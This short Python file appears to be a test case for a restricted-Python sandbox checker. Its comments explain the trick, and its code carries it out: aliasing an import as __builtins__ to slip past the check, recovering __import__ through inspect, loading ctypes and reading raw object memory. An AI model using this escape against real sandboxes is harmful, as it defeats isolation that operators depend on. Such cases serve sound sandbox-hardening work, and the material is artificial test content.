# source: CPython 3.11 _PyEval_BuiltinsFromGlobals (a function's builtins are globals['__builtins__'], a module allowed); inspect.getmembers; ctypes.string_at
# family: builtins swap: 'import M as __builtins__' (import alias is a dunder binding the check does not gate); defs made after it look up bare names in M's globals, which the check reads as unknown plain names; memory read outside Python bounds
# goal: imports ctypes and reads 48 raw bytes at id(obj) (the object header: refcount, type pointer)
import dataclasses as __builtins__

def members(obj):
    return inspect.getmembers(obj)

def root():
    return builtins

imp = None
for k, v in members(root()):
    if k[2:8] == "import":
        imp = v
ct = imp("ctypes")
blob = b"abcdefgh"
addr = dict(members(root()))["id"](blob)
print(dict(members(ct))["string_at"](addr, 48))
